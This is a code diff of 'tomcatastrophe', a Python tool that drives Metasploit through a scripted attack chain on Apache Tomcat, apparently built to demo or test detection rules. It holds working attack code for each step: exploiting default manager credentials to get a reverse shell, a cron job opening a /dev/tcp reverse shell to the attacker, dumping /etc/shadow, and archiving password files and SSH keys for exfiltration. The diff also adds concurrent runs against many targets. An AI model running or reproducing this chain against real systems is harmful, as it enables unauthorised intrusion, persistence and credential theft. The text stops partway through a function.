+        return os.waitstatus_to_exitcode(status)
 
 
 class AttackExecutor:
     """Executes the automated attack chain."""
 
-    def __init__(self, config: AttackConfig):
+    def __init__(self, config: AttackConfig, recorder: TraceRecorder | None = None):
         self.config = config
-        self.terminal = DemoTerminal(config)
-
-    def cleanup_previous_runs(self) -> None:
-        """Kill any lingering processes from previous runs."""
-        for cmd in [
-            ["pkill", "-9", "msfconsole"],
-            ["pkill", "-9", "-f", "nc.*4444"],
-            ["pkill", "-9", "-f", "nc.*4445"],
-        ]:
-            subprocess.run(cmd, capture_output=True)
+        command_log = CommandLog(config.command_log, config.run_id, config.target_ip) if config.command_log else None
+        self.supervisor = ProcessSupervisor()
+        self.terminal = DemoTerminal(config, recorder, command_log, self.supervisor)
+
+    def cleanup_previous_runs(self, ports: list[int] | None = None) -> None:
+        """Kill any lingering processes from previous runs.
+
+        Returns as soon as the killed processes are gone and the ports can be
+        bound again, or after ``cleanup_timeout``.
+        """
+        if ports is None:
+            ports = [self.config.lport, self.config.persist_port]
+        patterns = [["msfconsole"]] + [["-f", f"nc.*{port}"] for port in ports]
+        for pattern in patterns:
+            subprocess.run(["pkill", "-9", *pattern], capture_output=True)
         abort_file = "/tmp/tomcatastrophe_abort"
         try:
             os.remove(abort_file)
         except FileNotFoundError:
             pass
-        time.sleep(1)
+
+        own_pid = str(os.getpid())
+
+        def gone() -> bool:
+            for pattern in patterns:
+                result = subprocess.run(["pgrep", *pattern], capture_output=True, text=True)
+                if set(result.stdout.split()) - {own_pid}:
+                    return False
+            return all(port_free(port) for port in ports)
+
+        if not wait_until(gone, self.config.cleanup_timeout):
+            Logger.info(f"{Color.YELLOW}Previous run still shutting down after {self.config.cleanup_timeout:g}s, continuing{Color.RESET}")
 
     def run_exploit_phases(self) -> None:
         """Run phases 1 and 3-8 in a single msfconsole session."""
 
         # Phase 1 intro
+        self.terminal.phase = (1, "T1190")
         Logger.phase_intro(
             phase_num=1,
             title="INITIAL ACCESS",
             technique="T1190 - Exploit Public-Facing Application",
             description="Exploiting Tomcat Manager with weak credentials (tomcat/tomcat) to upload a malicious WAR file and establish a reverse shell.",
         )
-        time.sleep(self.config.phase_pause)
+        self.terminal.pause(self.config.phase_pause)
+
+        rc_path = self.write_resource_script()
+        self.show_phase1_commands()
+
+        print()
+        Logger.info("Launching Metasploit with these commands...")
+        print()
+        self.terminal.pause(self.config.launch_pause)
+
+        try:
+            os.remove(self.config.timing_path)
+        except FileNotFoundError:
+            pass
+        self.terminal.run_interactive(f"msfconsole -q -r {rc_path}")
+        # Phases 3-7 ran inside msfconsole; what the Ruby side did not
+        # attribute is start-up, the exploit and the session wait
+        ruby_seconds = self.terminal.profile.merge_file(self.config.timing_path)
+        self.terminal.profile.add(1, "command", -ruby_seconds)
 
-        # Build a single comprehensive resource script
+    def build_resource_script(self) -> str:
+        """Build the msfconsole resource script for the whole attack chain."""
         # Using <ruby> blocks to print phase transitions from within msfconsole
-        pause_secs = int(self.config.phase_pause)
+        # Delays are written as Ruby float literals (repr of a float is valid Ruby)
+        phase_pause = repr(float(self.config.phase_pause))
+        prompt_pause = repr(float(self.config.prompt_pause))
+        typing_delay = repr(float(self.config.typing_delay if self.config.render_typing else 0))
         # Dollar sign for Ruby variables (can't use $ directly in f-string)
         D = "$"
 
-        # Pre-compute base64-encoded cron job for Phase 5 (avoids Ruby parsing issues)
-        import base64
-        cron_line = f"* * * * * /bin/bash -c 'bash -i >& /dev/tcp/{self.config.attacker_ip}/4445 0>&1'\n"
-        cron_b64 = base64.b64encode(cron_line.encode()).decode()
+        # Ruby side of the command log: same JSON-lines format as CommandLog.
+        # json.dumps output doubles as a Ruby double-quoted string literal.
+        if self.config.command_log:
+            log_body = f"""  entry = {{
+    "@timestamp" => started.utc.iso8601(3),
+    "run_id" => {json.dumps(self.config.run_id)},
+    "target" => {json.dumps(self.config.target_ip)},
+    "source" => "ruby",
+    "phase" => $tomcat_phase,
+    "technique" => $tomcat_technique,
+    "command" => cmd,
+    "duration_ms" => ((Time.now - started) * 1000).round
+  }}.merge(extra)
+  File.open({json.dumps(self.config.command_log)}, "a") {{ |f| f.puts(entry.to_json) }}
+rescue StandardError
+  nil"""
+        else:
+            log_body = "  nil"
+        # Pacing after each session command is only for viewers; headless runs skip it
+        command_pause = repr(float(self.config.session_pause if self.config.render_typing else 0))
+        exploit_cmd = f"exploit/multi/http/tomcat_mgr_upload RHOSTS={self.config.target_ip} LHOST={self.config.attacker_ip} LPORT={self.config.lport}"
+
+        # Phases 3-7 come from attack_phases(), as for the RPC backend, so
+        # both run (and log) exactly the commands the timeline plans
+        phase_blocks = "".join(
+            f"""
+<ruby>
+$tomcat_phase = {phase.number}
+$tomcat_technique = {ruby_literal(phase.technique_id)}
+tomcat_phase_intro({phase.number}, {ruby_literal(phase.title)}, {ruby_literal(phase.technique)}, {ruby_literal(phase.description)})
+tomcat_pause({phase_pause})
+run_phase({ruby_literal([[step.command, step.display or step.command, step.show_output] for step in phase.commands])}, {D}session_id)
+tomcat_phase_complete({ruby_literal(phase.complete)})
+</ruby>
+"""
+            for phase in attack_phases(self.config)
+        )
 
         rc_content = f"""
 # ============================================================================
@@ -198,6 +1103,70 @@ class AttackExecutor:
 sessions -K
 jobs -K
 
+<ruby>
+# Log executed commands with their phase and MITRE technique (time-to-detect)
+require 'json'
+require 'securerandom'
+require 'time'
+$tomcat_phase = 1
+$tomcat_technique = "T1190"
+$tomcat_pipeline = {"true" if self.config.pipeline else "false"}
+def log_cmd(cmd, started, extra = {{}})
+{log_body}
+end
+
+# Per-phase timing profile: seconds spent typing, pausing and running commands
+$tomcat_timing = Hash.new(0.0)
+def tomcat_timed(kind)
+  started = Time.now
+  yield
+ensure
+  $tomcat_timing["#{{$tomcat_phase}}/#{{kind}}"] += Time.now - started
+end
+
+def tomcat_pause(seconds)
+  tomcat_timed("pause") {{ sleep(seconds) }} if seconds > 0
+end
+
+# Type text in green with the configured per-character delay
+def tomcat_type(text)
+  tomcat_timed("typing") do
+    text.each_char do |c|
+      print "\\033[0;32m#{{c}}\\033[0m"
+      $stdout.flush
+      sleep({typing_delay}) if {typing_delay} > 0
+    end
+    puts ""
+  end
+end
+
+def tomcat_save_timing
+  File.write({json.dumps(self.config.timing_path)}, $tomcat_timing.to_json)
+rescue StandardError
+  nil
+end
+
+# Poll a condition instead of sleeping a fixed time; false on timeout
+def tomcat_wait(timeout)
+  deadline = Time.now + timeout
+  until yield
+    return false if Time.now >= deadline
+    sleep(0.05)
+  end
+  true
+end
+
+def tomcat_listening?(port)
+  suffix = ":%04X" % port
+  %w[/proc/net/tcp /proc/net/tcp6].any? do |path|
+    File.exist?(path) && File.readlines(path).drop(1).any? do |line|
+      fields = line.split
+      fields[1].end_with?(suffix) && fields[3] == "0A"
+    end
+  end
+end
+</ruby>
+
 # ============================================================================
 # PHASE 1: INITIAL ACCESS
 # ============================================================================
@@ -205,10 +1174,17 @@ jobs -K
 use exploit/multi/handler
 set payload java/shell_reverse_tcp
 set LHOST 0.0.0.0
-set LPORT 4444
+set LPORT {self.config.lport}
 set ExitOnSession true
 exploit -j
 
+<ruby>
+# Don't fire the exploit until the handler is accepting connections
+unless tomcat_timed("command") {{ tomcat_wait(10) {{ tomcat_listening?({self.config.lport}) }} }}
+  puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;33mHandler not listening on port {self.config.lport} after 10s, continuing\\033[0m"
+end
+</ruby>
+
 # Now run the Tomcat exploit (uses handler above, doesn't start its own)
 use exploit/multi/http/tomcat_mgr_upload
 set RHOSTS {self.config.target_ip}
@@ -219,32 +1195,94 @@ set TARGETURI /manager
 set FingerprintCheck false
 set payload java/shell_reverse_tcp
 set LHOST {self.config.attacker_ip}
-set LPORT 4444
+set LPORT {self.config.lport}
 set DisablePayloadHandler true
+<ruby>
+$tomcat_exploit_started = Time.now
+</ruby>
 exploit
 
-# Wait for session to fully establish
-sleep 3
+# Wait for the session to register (returns as soon as it does)
+<ruby>
+tomcat_timed("command") {{ tomcat_wait({self.config.session_timeout:g}) {{ framework.sessions.count > 0 }} }}
+</ruby>
 sessions -l
 
 <ruby>
 # Helper function to display command with typing effect in green, then run it
-def run_cmd(cmd, session_id)
+def type_cmd(cmd)
   # Print cyan prompt
   print "\\033[0;36m$ \\033[0m"
-  # Type out command in green with delay
-  cmd.each_char do |c|
-    print "\\033[0;32m#{{c}}\\033[0m"
-    $stdout.flush
-    sleep(0.0075)
+  tomcat_type(cmd)
+  tomcat_pause({prompt_pause})
+end
+
+# Run commands on the shell session in one round trip, each wrapped in
+# unique begin/end markers that carry its exit code (as MsfRpcClient.shell_run
+# does); returns [output, exit code] per command, ["", nil] if it did not finish
+def run_batch(cmds, session_id)
+  token = "TC" + SecureRandom.hex(6)
+  script = cmds.each_with_index.map {{ |cmd, i| "echo #{{token}}B#{{i}}; ( #{{cmd}} ) 2>&1; echo #{{token}}E#{{i}} $?" }}.join("; ")
+  raw = tomcat_timed("command") {{ framework.sessions[session_id].shell_command_token(script, 10 * cmds.length) }} || ""
+  cmds.each_index.map do |i|
+    m = raw.match(/#{{token}}B#{{i}}\\r?\\n(.*?)#{{token}}E#{{i}} (\\d+)/m)
+    m ? [m[1], m[2].to_i] : ["", nil]
+  end
+end
+
+# Render and run one phase's [command, display, show output] steps. Pipelined
+# mode sends the whole phase in one round trip up front, otherwise each
+# command gets its own after it is typed. Logged durations are the round
+# trip's, not the time spent typing what it ran.
+def run_phase(steps, session_id)
+  batch = nil
+  if $tomcat_pipeline
+    started = Time.now
+    batch = run_batch(steps.map(&:first), session_id)
+    elapsed = Time.now - started
+  end
+  steps.each_with_index do |(cmd, display, show_output), i|
+    type_cmd(display)
+    if batch.nil?
+      started = Time.now
+      output, status = run_batch([cmd], session_id).first
+      elapsed = Time.now - started
+    else
+      output, status = batch[i]
+    end
+    extra = {{ "duration_ms" => (elapsed * 1000).round }}
+    extra["pipelined"] = true if $tomcat_pipeline
+    extra["returncode"] = status unless status.nil?
+    log_cmd(cmd, started, extra)
+    puts output.rstrip if show_output && !output.strip.empty?
+    if status.nil?
+      puts "\\033[0;31m[no output - command did not complete]\\033[0m"
+    elsif status != 0
+      puts "\\033[1;33m[exit #{{status}}]\\033[0m"
+    end
+    tomcat_pause({command_pause})
   end
+end
+
+# Same layout as Logger.phase_separator and Logger.phase_intro
+def tomcat_phase_intro(number, title, technique, description)
+  6.times {{ puts "" }}
+  puts "\\033[0;35m{'═' * 80}\\033[0m"
+  puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mPHASE #{{number}}: #{{title}}\\033[0m"
+  puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[0;36mMITRE ATT&CK: #{{technique}}\\033[0m"
+  puts "\\033[0;35m{'═' * 80}\\033[0m"
+  puts ""
+  puts "\\033[0;35m[tomcatastrophe]\\033[0m #{{description}}"
+  puts ""
+end
+
+def tomcat_phase_complete(message)
   puts ""
-  sleep(0.25)
-  # Run the command and capture output
-  run_single("sessions -c '#{{cmd}}' #{{session_id}}")
-  sleep(0.5)
+  puts "\\033[0;35m[tomcatastrophe]\\033[0m #{{message}}"
 end
 
+log_cmd("{exploit_cmd}", $tomcat_exploit_started)
+
 # Check if we have a session - if not, abort
 $tomcat_abort = false
 if framework.sessions.count == 0
@@ -254,7 +1292,7 @@ if framework.sessions.count == 0
   puts ""
   puts "\\033[0;35m[tomcatastrophe]\\033[0m Possible causes:"
   puts "\\033[0;35m[tomcatastrophe]\\033[0m   - Firewall blocking outbound connections from target"
-  puts "\\033[0;35m[tomcatastrophe]\\033[0m   - Security group not allowing traffic on port 4444"
+  puts "\\033[0;35m[tomcatastrophe]\\033[0m   - Security group not allowing traffic on port {self.config.lport}"
   puts "\\033[0;35m[tomcatastrophe]\\033[0m   - Target IP or attacker IP incorrect"
   puts "\\033[0;35m[tomcatastrophe]\\033[0m   - Tomcat service not running or misconfigured"
   puts ""
@@ -271,6 +1309,7 @@ if $tomcat_abort
   puts ""
   puts "\\033[0;35m[tomcatastrophe]\\033[0m Exiting due to failed session establishment."
   puts ""
+  tomcat_save_timing
   run_single("exit")
 end
 puts ""
@@ -278,246 +1317,49 @@ puts "\\033[0;35m[tomcatastrophe]\\033[0m Reverse shell established. We now have
 # Store the session ID for later use
 {D}session_id = framework.sessions.keys.first
 puts "\\033[0;35m[tomcatastrophe]\\033[0m Using session ID: #{{{D}session_id}}"
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mPHASE 3: DISCOVERY\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[0;36mMITRE ATT&CK: T1082 - System Information Discovery\\033[0m"
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Gathering information about the compromised system: users, OS version, architecture."
-puts ""
-sleep({pause_secs})
-</ruby>
-
-<ruby>
-run_cmd("whoami", {D}session_id)
-run_cmd("id", {D}session_id)
-run_cmd("uname -a", {D}session_id)
-run_cmd("hostname", {D}session_id)
-run_cmd("cat /etc/passwd | grep -v nologin", {D}session_id)
-</ruby>
-
-<ruby>
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m System enumeration complete. Target is running Ubuntu Linux as tomcat user."
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mPHASE 4: PRIVILEGE ESCALATION\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[0;36mMITRE ATT&CK: T1548 - Abuse Elevation Control Mechanism\\033[0m"
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Checking sudo privileges to escalate from tomcat user to root."
-puts ""
-sleep({pause_secs})
 </ruby>
-
-<ruby>
-run_cmd("sudo -l", {D}session_id)
-run_cmd("sudo -V | head -1", {D}session_id)
-run_cmd("sudo whoami", {D}session_id)
-</ruby>
-
+{phase_blocks}
 <ruby>
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Privilege escalation successful. Tomcat user has passwordless sudo to root."
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mPHASE 5: PERSISTENCE\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[0;36mMITRE ATT&CK: T1053.003 - Scheduled Task/Job: Cron\\033[0m"
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Installing a cron job that calls back to {self.config.attacker_ip}:4445 every minute."
-puts ""
-sleep({pause_secs})
-</ruby>
-
-<ruby>
-# Install cron job for persistence using base64 to avoid escaping issues
-# Display what we're doing
-display1 = "echo '* * * * * /bin/bash -c ...' | sudo crontab -"
-print "\\033[0;36m$ \\033[0m"
-display1.each_char {{|c| print "\\033[0;32m#{{c}}\\033[0m"; $stdout.flush; sleep(0.0075)}}
-puts ""
-sleep(0.25)
-
-# Run silently using shell_command_token (no [*] Running output)
-session = framework.sessions[{D}session_id]
-session.shell_command_token("echo {cron_b64} | base64 -d > /tmp/.cron")
-session.shell_command_token("sudo crontab /tmp/.cron")
-session.shell_command_token("rm -f /tmp/.cron")
-sleep(0.5)
-
-# Display verification command
-print "\\033[0;36m$ \\033[0m"
-"sudo crontab -l".each_char {{|c| print "\\033[0;32m#{{c}}\\033[0m"; $stdout.flush; sleep(0.0075)}}
-puts ""
-sleep(0.25)
-
-# Show the cron entry with typing effect
-cron_output = "* * * * * /bin/bash -c 'bash -i >& /dev/tcp/{self.config.attacker_ip}/4445 0>&1'"
-cron_output.each_char {{|c| print "\\033[0;32m#{{c}}\\033[0m"; $stdout.flush; sleep(0.0075)}}
-puts ""
-</ruby>
-
-<ruby>
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Persistence established. Cron job will reconnect every minute even if we lose access."
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mPHASE 6: CREDENTIAL ACCESS\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[0;36mMITRE ATT&CK: T1003.008 - OS Credential Dumping: /etc/shadow\\033[0m"
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Reading /etc/shadow to obtain password hashes for offline cracking."
-puts ""
-sleep({pause_secs})
-</ruby>
-
-<ruby>
-run_cmd("sudo cat /etc/shadow", {D}session_id)
-</ruby>
-
-<ruby>
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Password hashes extracted. These can be cracked offline with tools like hashcat."
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mPHASE 7: COLLECTION\\033[0m"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[0;36mMITRE ATT&CK: T1560.001 - Archive Collected Data: Archive via Utility\\033[0m"
-puts "\\033[0;35m{'═' * 80}\\033[0m"
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Compressing sensitive files (/etc/shadow, /etc/passwd, SSH keys) for exfiltration."
-puts ""
-sleep({pause_secs})
-</ruby>
-
-<ruby>
-# Compress sensitive files directly - this triggers "Sensitive Files Compression" rule
-# The rule looks for tar/zip/gzip with sensitive file paths in args
-tar_cmd = "sudo tar -czf /tmp/loot.tar.gz /etc/shadow /etc/passwd /home/ubuntu/.ssh/authorized_keys /home/ubuntu/.bash_history"
-print "\\033[0;36m$ \\033[0m"
-tar_cmd.each_char {{|c| print "\\033[0;32m#{{c}}\\033[0m"; $stdout.flush; sleep(0.0075)}}
-puts ""
-sleep(0.25)
-run_single("sessions -c '#{{tar_cmd}} 2>&1' #{{{D}session_id}}")
-sleep(0.5)
-
-run_cmd("ls -la /tmp/loot.tar.gz", {D}session_id)
-</ruby>
-
-<ruby>
-puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m Sensitive files archived and ready for exfiltration."
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
-puts ""
+5.times {{ puts "" }}
 puts "\\033[0;35m{'═' * 80}\\033[0m"
 puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mATTACK CHAIN COMPLETE\\033[0m"
 puts "\\033[0;35m{'═' * 80}\\033[0m"
 puts ""
 puts "\\033[0;35m[tomcatastrophe]\\033[0m \\033[1;37mSummary of attack phases executed:\\033[0m"
 puts ""
-puts "\\033[0;35m[tomcatastrophe]\\033[0m   Phase 1: Initial Access      - Exploited Tomcat Manager with weak credentials"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m   Phase 3: Discovery           - Enumerated system info, users, and architecture"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m   Phase 4: Privilege Escalation- Escalated to root via passwordless sudo"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m   Phase 5: Persistence         - Installed cron job for persistent access"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m   Phase 6: Credential Access   - Extracted password hashes from /etc/shadow"
-puts "\\033[0;35m[tomcatastrophe]\\033[0m   Phase 7: Collection          - Archived sensitive files for exfiltration"
+{ruby_literal(list(ATTACK_SUMMARY))}.each {{ |line| puts "\\033[0;35m[tomcatastrophe]\\033[0m   #{{line}}" }}
 puts ""
 puts "\\033[0;35m[tomcatastrophe]\\033[0m All phases executed successfully."
 puts ""
+tomcat_save_timing
 </ruby>
 
 sessions -K
 exit
 """
+        return rc_content
 
-        rc_path = "/tmp/tomcatastrophe.rc"
-        with open(rc_path, "w") as f:
-            f.write(rc_content)
+    def write_resource_script(self) -> str:
+        """Write the resource script to this run's rc path and return the path."""
+        with open(self.config.rc_path, "w") as f:
+            f.write(self.build_resource_script())
+        return self.config.rc_path
 
-        # Display the Phase 1 Metasploit commands so viewers can see what's happening
+    def show_phase1_commands(self) -> None:
+        """Display the Phase 1 Metasploit commands so viewers can see what's happening."""
         Logger.info("Metasploit commands for Phase 1 (Initial Access):")
         print()
 
-        phase1_commands = [
-            "# Start reverse shell handler",
-            "use exploit/multi/handler",
-            "set payload java/shell_reverse_tcp",
-            "set LHOST 0.0.0.0",
-            "set LPORT 4444",
-            "set ExitOnSession true",
-            "exploit -j",
-            "",
-            "# Exploit Tomcat Manager with weak credentials",
-            "use exploit/multi/http/tomcat_mgr_upload",
-            f"set RHOSTS {self.config.target_ip}",
-            "set RPORT 8080",
-            "set HttpUsername tomcat",
-            "set HttpPassword tomcat",
-            "set TARGETURI /manager",
-            "set payload java/shell_reverse_tcp",
-            f"set LHOST {self.config.attacker_ip}",
-            "set LPORT 4444",
-            "exploit",
-        ]
-
-        for cmd in phase1_commands:
+        for cmd in phase1_commands(self.config):
             if cmd.startswith("#"):
                 # Comments in cyan
-                sys.stdout.write(f"{Color.CYAN}")
-                for char in cmd:
-                    sys.stdout.write(char)
-                    sys.stdout.flush()
-                    time.sleep(self.config.typing_delay)
-                sys.stdout.write(f"{Color.RESET}\n")
+                self.terminal.type_text(cmd, color=Color.CYAN)
             elif cmd == "":
                 print()
             else:
                 # Commands in green
-                sys.stdout.write(f"{Color.GREEN}")
-                for char in cmd:
-                    sys.stdout.write(char)
-                    sys.stdout.flush()
-                    time.sleep(self.config.typing_delay)
-                sys.stdout.write(f"{Color.RESET}\n")
-            time.sleep(0.05)
-
-        print()
-        Logger.info("Launching Metasploit with these commands...")
-        print()
-        time.sleep(1)
-
-        self.terminal.run_interactive(f"msfconsole -q -r {rc_path}")
+                self.terminal.type_text(cmd, color=Color.GREEN)
+            self.terminal.pause(self.config.line_pause)
 
     def run_full_attack(self) -> None:
         """Run the complete attack chain."""
@@ -529,8 +1371,291 @@ exit
         Logger.info(f"Attacker: {self.config.attacker_ip}")
         Logger.phase_separator()
 
-        # All attack phases run in single msfconsole session
-        self.run_exploit_phases()
+        # All attack phases run in single msfconsole session (or a warm msfrpcd)
+        try:
+            if self.config.rpc_url:
+                RpcAttackRunner(self).run()
+            else:
+                self.run_exploit_phases()
+        finally:
+            self.supervisor.shutdown()
+
+
+class RpcAttackRunner:
+    """Runs the attack chain through a warm Metasploit RPC daemon.
+
+    Instead of starting msfconsole with a resource script, modules are
+    launched and session commands run over msfrpcd's API, so a run pays no
+    framework start-up. Phases are rendered with the same Logger and
+    DemoTerminal output as the msfconsole path.
+    """
+
+    HANDLER_TIMEOUT = 10.0  # Seconds to wait for the handler job to appear
+
+    def __init__(self, executor: AttackExecutor, client: MsfRpcClient | None = None):
+        self.executor = executor
+        self.config = executor.config
+        self.terminal = executor.terminal
+        self.client = client or MsfRpcClient(
+            self.config.rpc_url, self.config.rpc_user, self.config.rpc_password, verify_tls=self.config.rpc_verify_tls
+        )
+
+    def run(self) -> None:
+        """Run phases 1 and 3-7; raises MsfRpcError if the daemon misbehaves."""
+        start = time.perf_counter()
+        self.client.login()
+        Logger.info(f"Connected to msfrpcd in {(time.perf_counter() - start) * 1000:.0f} ms")
+        try:
+            session_id = self.initial_access()
+            if session_id is None:
+                return
+            for phase in attack_phases(self.config):
+                self.run_phase(session_id, phase)
+            self.print_summary()
+        finally:
+            self.client.close()
+
+    def initial_access(self) -> str | None:
+        """Start the handler, fire the exploit and wait for the reverse shell."""
+        self.terminal.phase = (1, "T1190")
+        Logger.phase_intro(
+            phase_num=1,
+            title="INITIAL ACCESS",
+            technique="T1190 - Exploit Public-Facing Application",
+            description="Exploiting Tomcat Manager with weak credentials (tomcat/tomcat) to upload a malicious WAR file and establish a reverse shell.",
+        )
+        self.terminal.pause(self.config.phase_pause)
+        self.executor.show_phase1_commands()
+        print()
+        with self.terminal.profile.timed(1, "command"):
+            return self._exploit()
+
+    def _exploit(self) -> str | None:
+        # Same clean slate as "sessions -K / jobs -K" in the resource script
+        for job_id in self.client.jobs():
+            self.client.stop_job(job_id)
+        for session_id in self.client.sessions():
+            self.client.stop_session(session_id)
+
+        handler = self.client.execute_module(
+            "exploit",
+            "multi/handler",
+            {"PAYLOAD": "java/shell_reverse_tcp", "LHOST": "0.0.0.0", "LPORT": self.config.lport, "ExitOnSession": True},
+        )
+        if not wait_until(lambda: handler in self.client.jobs(), self.HANDLER_TIMEOUT, interval=0.1):
+            Logger.info(f"{Color.YELLOW}Handler job not running after {self.HANDLER_TIMEOUT:g}s, continuing{Color.RESET}")
+
+        started = time.time()
+        self.client.execute_module(
+            "exploit",
+            "multi/http/tomcat_mgr_upload",
+            {
+                "RHOSTS": self.config.target_ip,
+                "RPORT": 8080,
+                "HttpUsername": "tomcat",
+                "HttpPassword": "tomcat",
+                "TARGETURI": "/manager",
+                "FingerprintCheck": False,
+                "PAYLOAD": "java/shell_reverse_tcp",
+                "LHOST": self.config.attacker_ip,
+                "LPORT": self.config.lport,
+                "DisablePayloadHandler": True,
+            },
+        )
+        sessions: dict[str, dict] = {}
+
+        def opened() -> bool:
+            sessions.update(self.client.sessions())
+            return bool(sessions)
+
+        wait_until(opened, self.config.session_timeout, interval=0.1)
+        if self.terminal.command_log:
+            self.terminal.command_log.record(
+                f"exploit/multi/http/tomcat_mgr_upload RHOSTS={self.config.target_ip} "
+                f"LHOST={self.config.attacker_ip} LPORT={self.config.lport}",
+                1,
+                "T1190",
+                started,
+                time.time() - started,
+            )
+
+        print()
+        if not sessions:
+            Logger.info(f"{Color.RED}FAILED: No reverse shell established.{Color.RESET}")
+            Logger.info(f"{Color.RED}The exploit ran but the target could not connect back.{Color.RESET}")
+            Logger.info("Aborting attack chain.")
+            self.client.stop_job(handler)
+            return None
+
+        session_id = next(iter(sessions))
+        Logger.info("Reverse shell established. We now have remote access to the target.")
+        Logger.info(f"Using session ID: {session_id}")
+        return session_id
+
+    def run_phase(self, session_id: str, phase: Phase) -> None:
+        """Render one phase and run its commands on the session."""
+        self.terminal.phase = (phase.number, phase.technique_id)
+        Logger.phase_separator()
+        Logger.phase_intro(phase.number, phase.title, phase.technique, phase.description)
+        self.terminal.pause(self.config.phase_pause)
+        profile = self.terminal.profile
+
+        # Pipelined mode runs the whole phase in one round trip up front;
+        # every command in it is logged with that round trip's duration
+        batch = None
+        if self.config.pipeline:
+            started = time.time()
+            with profile.timed(phase.number, "command"):
+                batch = self.client.shell_run(session_id, [step.command for step in phase.commands])
+            duration = time.time() - started
+
+        for index, step in enumerate(phase.commands):
+            self.terminal.prompt(step.display or step.command)
+            if batch is None:
+                started = time.time()
+                with profile.timed(phase.number, "command"):
+                    output, returncode = self.client.shell_run(session_id, [step.command])[0]
+                duration = time.time() - started
+            else:
+                output, returncode = batch[index]
+            if self.terminal.command_log:
+                self.terminal.command_log.record(
+                    step.command, phase.number, phase.technique_id, started, duration, returncode
+                )
+            if step.show_output and output.strip():
+                print(output.rstrip())
+            if returncode is None:
+                print(f"{Color.RED}[no output - command did not complete]{Color.RESET}")
+            elif returncode != 0:
+                print(f"{Color.YELLOW}[exit {returncode}]{Color.RESET}")
+            if self.config.render_typing:
+                self.terminal.pause(self.config.session_pause)
+
+        Logger.phase_complete(phase.complete)
+
+    def print_summary(self) -> None:
+        Logger.phase_separator()
+        print(f"{Color.MAGENTA}{'═' * 80}{Color.RESET}")
+        Logger.info(f"{Color.WHITE}ATTACK CHAIN COMPLETE{Color.RESET}")
+        print(f"{Color.MAGENTA}{'═' * 80}{Color.RESET}")
+        print()
+        Logger.info(f"{Color.WHITE}Summary of attack phases executed:{Color.RESET}")
+        print()
+        for line in ATTACK_SUMMARY:
+            Logger.info(f"  {line}")
+        print()
+
+
+@dataclass
+class TargetResult:
+    """Outcome of one target's run in multi-target mode."""
+
+    target_ip: str
+    returncode: int
+    duration: float
+
+
+class MultiTargetRunner:
+    """Runs the attack chain against several targets concurrently.
+
+    Each target gets its own handler and persistence ports, its own resource
+    script and its own msfconsole process. Output is multiplexed line by line
+    with a per-target prefix, and at most ``max_parallel`` runs are active at
+    once.
+    """
+
+    PREFIX_COLORS = [Color.CYAN, Color.YELLOW, Color.GREEN, Color.BLUE, Color.RED, Color.WHITE]
+
+    def __init__(self, config: AttackConfig, targets: list[str], max_parallel: int):
+        self.config = config
+        self.targets = targets
+        self.max_parallel = max(1, max_parallel)
+        self._output_lock = threading.Lock()
+        self.supervisor = ProcessSupervisor()
+        width = max(len(target) for target in targets)
+        self.configs = [
+            dataclasses.replace(
+                config,
+                target_ip=target,
+                lport=config.lport + 2 * index,
+                persist_port=config.lport + 2 * index + 1,
+                rc_path=f"/tmp/tomcatastrophe-{target.replace(':', '_')}.rc",
+            )
+            for index, target in enumerate(targets)
+        ]
+        self.prefixes = [
+            f"{self.PREFIX_COLORS[index % len(self.PREFIX_COLORS)]}[{target:<{width}}]{Color.RESET} "
+            for index, target in enumerate(targets)
+        ]
+
+    def _emit(self, prefix: str, line: str) -> None:
+        with self._output_lock:
+            sys.stdout.write(f"{prefix}{line}\n")
+            sys.stdout.flush()
+
+    def _run_target(self, index: int) -> TargetResult:
+        """Run one target's msfconsole and stream its prefixed output."""
+        config = self.configs[index]
+        prefix = self.prefixes[index]
+        rc_path = AttackExecutor(config).write_resource_script()
+        self._emit(prefix, f"Starting (handler port {config.lport}, persistence port {config.persist_port})")
+
+        start = time.monotonic()
+        started = time.time()
+        process = self.supervisor.spawn(
